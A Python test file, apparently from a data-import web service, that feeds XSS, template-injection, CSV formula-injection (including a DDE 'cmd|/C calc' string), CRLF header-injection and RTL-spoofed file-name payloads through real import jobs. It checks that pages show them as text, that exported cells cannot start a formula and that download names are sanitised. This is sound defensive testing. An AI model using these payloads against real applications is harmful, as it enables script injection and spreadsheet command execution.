"""Naughty strings and injection payloads as cells, headers and file names, through real jobs. Source: X-09, X-20.

On pages they are text and nothing else; in files that people open in spreadsheets no cell begins a formula; the
original comes back byte for byte. The corpora are beside the repository (`../shared/corpora`); where they aren't, a
handful of the worst replaces them.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
from fastapi.testclient import TestClient

from include.columns.mapping import Column, ColumnMapping, How
from include.ledger.jobs import JobResult

pytestmark = pytest.mark.dags

CORPORA = Path(__file__).parents[4] / "shared" / "corpora" / "derived"
WORST = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</bdi></table><a href=javascript:alert(1)>here</a>",
    "javascript:alert(1)",
    "' onmouseover='alert(1)",
    "{{ 7 * 7 }}{% raw %}",
    '=HYPERLINK("http://example.com?"&A1,"here")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u202egpj.exe",
    "a\r\nSet-Cookie: b=c",
)
"""What is tried also where the corpora are not."""

EMAIL_HEADED = ColumnMapping((Column(0, "Email", "email", How.EXACT),))

Browse = Callable[[str | None], TestClient]
Load = Callable[..., JobResult]
FILES = ("blns_customers.csv", "csv_injection_customers.csv")
STARTS_FORMULA = re.compile("[=+\\-@\t\r＝＋－＠]")
COLUMNS_A_FILE = 150
"""The page of a job shows the first 200 columns."""
NAMES = 30
LONGEST_NAME_BYTES = 200


ON_A_JOB = {"p", "ul", "li", "svg", "rect", "code", "dl", "dt", "dd", "strong", "h2", "h3", "details", "summary"}
"""Elements that the page of a job has besides those of the list."""
ADDRESSES = ("href", "src", "action", "hx-get")


class _Page(HTMLParser):
    """Collects the elements of a page, and the texts of those that hold what a sender chose."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: set[str] = set()
        self.chosen: list[str] = []
        self._is_chosen = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.addresses |= {str(value) for name, value in attrs if name in ADDRESSES}
        if tag == "bdi":
            self._is_chosen = True
            self.chosen.append("")

    def handle_endtag(self, tag: str) -> None:
        self._is_chosen = self._is_chosen and tag != "bdi"

    def handle_data(self, data: str) -> None:
        if self._is_chosen:
            self.chosen[-1] += data


def parse(text: str) -> _Page:
    """Read a page, every address of which must be one of ours."""
    page = _Page()
    page.feed(text)
    page.close()
    assert {address for address in page.addresses if not re.match("/(imports|dags)/|/$|$|#", address)} == set()
    return page


def payloads() -> list[str]:
    """Every naughty string and payload once."""
    texts: dict[str, None] = dict.fromkeys(WORST)
    for name in FILES if CORPORA.is_dir() else ():
        with (CORPORA / name).open(encoding="utf-8-sig", newline="") as stream:
            texts |= dict.fromkeys(row["FirstName"] for row in csv.DictReader(stream))
    return [text for text in texts if text and "\0" not in text]


def as_csv(rows: list[list[str]]) -> str:
    sink = io.StringIO()
    csv.writer(sink, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows(rows)
    return sink.getvalue()


def harmless(load: Load, browse: Browse) -> _Page:
    """The page of a job whose columns and rejected rows are nothing special, to compare elements with."""
    result = load(
        "customers", "plain.csv", as_csv([["Email", "Other"], *([f"no address {n}", "x"] for n in range(20))])
    )
    return parse(browse("viewer").get(f"/imports/jobs/{result.job}").text)


@pytest.mark.parametrize("name", FILES)
def test_the_corpora_as_they_are_make_harmless_pages_and_come_back_unchanged(
    browse: Browse, load: Load, name: str
) -> None:
    if not CORPORA.is_dir():
        pytest.skip(f"The public corpora are not at {CORPORA}.")
    content = (CORPORA / name).read_bytes()
    result = load("customers", name, content)
    browser = browse("viewer")
    assert browse("user").get(f"/imports/jobs/{result.job}/files/original").content == content
    plain = harmless(load, browse)
    page = parse(browser.get(f"/imports/jobs/{result.job}").text)
    assert page.tags <= plain.tags
    assert page.attributes <= plain.attributes


def test_hostile_cells_are_rejected_masked_on_pages_and_harmless_in_spreadsheets(browse: Browse, load: Load) -> None:
    texts = [text for text in payloads() if len(text.strip()) > 3]
    content = as_csv([["Email", "FirstName"], *([f"{text} is no address", text] for text in texts)])
    result = load("customers", "cells.csv", content, review_reject_share=1)  # over half would be asked about
    assert result.rows.rejected == result.rows.read == len(texts)
    plain, browser = harmless(load, browse), browse("viewer")

    for text in all_rejects(browser, result.job):
        page = parse(text)
        assert page.tags <= plain.tags | {"form", "input", "label", "button", "nav", "br"}
        assert "is no address" not in text  # the cells, as sent or escaped
    assert parse(browser.get(f"/imports/jobs/{result.job}").text).tags == plain.tags | {"h3"}

    rows = list(
        csv.reader(io.StringIO(browse("user").get(f"/imports/jobs/{result.job}/files/rejected").text, newline=""))
    )
    assert rows[0] == ["_job", "_line", "_rules", "_reasons", "Email", "FirstName"]
    cells = [cell for row in rows[1:] for cell in row[3:]]
    assert [cell for cell in cells if STARTS_FORMULA.match(cell)] == []
    assert [plainly_sent(row[5]) for row in rows[1:]] == texts
    assert browse("user").get(f"/imports/jobs/{result.job}/files/original").content == content.encode()


def plainly_sent(cell: str) -> str:
    """Take off the one apostrophe that the rejected-rows file has put before what looks like a formula."""
    return cell[1:] if re.match("'+[=+\\-@\t\r＝＋－＠]", cell) else cell


def all_rejects(browser: TestClient, job: int) -> Iterator[str]:
    """Turn the pages of rejected rows to the last."""
    address: str | None = f"/imports/jobs/{job}/rejects"
    while address:
        text = browser.get(address).text
        yield text
        following = re.search(r'href="([^"]+)" rel="next"', text)
        address = following[1].replace("&amp;", "&") if following else None


def test_hostile_headers_are_text(browse: Browse, load: Load) -> None:
    texts, shown = payloads(), []
    plain = harmless(load, browse)
    for number, headers in enumerate(cut(texts)):
        result = load("customers", f"headers{number}.csv", as_csv([["Email", *headers], ["", *("x" for _ in headers)]]))
        assert result.state in ("completed", "completed_with_rejects"), result.reason
        page = parse(browse("viewer").get(f"/imports/jobs/{result.job}").text)
        assert page.tags <= plain.tags
        assert page.attributes <= plain.attributes
        start = page.chosen.index("Email")
        shown += page.chosen[start + 1 : start + 1 + len(headers)]
    expected = [EMAIL_HEADED.shown(Column(0, text.strip(), None, How.UNMATCHED)) for text in texts]
    assert shown == expected


def cut(texts: list[str]) -> Iterator[tuple[str, ...]]:
    for start in range(0, len(texts), COLUMNS_A_FILE):
        yield tuple(texts[start : start + COLUMNS_A_FILE])


def file_names() -> list[str]:
    """The most hostile of the strings that a file can be called."""

    def usable(text: str) -> bool:
        return "/" not in text and not text.startswith((".", "~")) and len(text.encode()) <= LONGEST_NAME_BYTES

    def hostility(text: str) -> int:
        odd = sum(unicodedata.category(character) in ("Cf", "Cc") for character in text)
        return sum(character in "<>\"'&;\\%{}" for character in text) + 5 * odd + 5 * bool(STARTS_FORMULA.match(text))

    candidates = sorted(filter(usable, payloads()), key=hostility, reverse=True)
    markup = [text for text in candidates if "<" in text][: NAMES // 2]
    return [f"{text}.csv" for text in dict.fromkeys([*markup, *candidates[: NAMES - len(markup)]])]


def test_hostile_file_names_are_text_and_downloads_have_safe_ones(browse: Browse, load: Load) -> None:
    names = file_names()
    jobs = {}
    for number, name in enumerate(names):
        result = load("customers", name, f"Email\nnobody{number}@example.com\nno address\n")
        assert result.state == "completed_with_rejects", result.reason
        jobs[result.job] = name
    browser = browse("viewer")
    listed = parse(browser.get("/imports/").text)
    assert [text for text in listed.chosen if text != "somebody"] == [jobs[job] for job in sorted(jobs, reverse=True)]
    allowed = listed.tags
    for job, name in jobs.items():
        page = parse(browser.get(f"/imports/jobs/{job}").text)
        assert page.chosen[0] == name
        assert page.tags <= allowed | {
            "p",
            "ul",
            "li",
            "svg",
            "rect",
            "code",
            "dl",
            "dt",
            "dd",
            "strong",
            "h2",
            "h3",
            "details",
            "summary",
        }
        for kind in ("original", "rejected"):
            sent: Any = browse("user").get(f"/imports/jobs/{job}/files/{kind}").headers["content-disposition"]
            disposition = re.fullmatch(
                r"attachment; filename=\"([^\"]+)\"; filename\*=UTF-8''([A-Za-z0-9._~%-]+)", sent
            )
            assert disposition, sent
            full = unquote(disposition[2])
            assert not re.search(r'[\\/:*?"<>|\x00-\x1f\x7f\u202a-\u202e\u2066-\u2069]', full)
            assert full.endswith(".csv")
            assert disposition[1].isascii()
    for name in names[:5]:
        filtered = parse(browser.get("/imports/", params={"name": name}).text)
        assert [text for text in filtered.chosen if text != "somebody"] == [name]
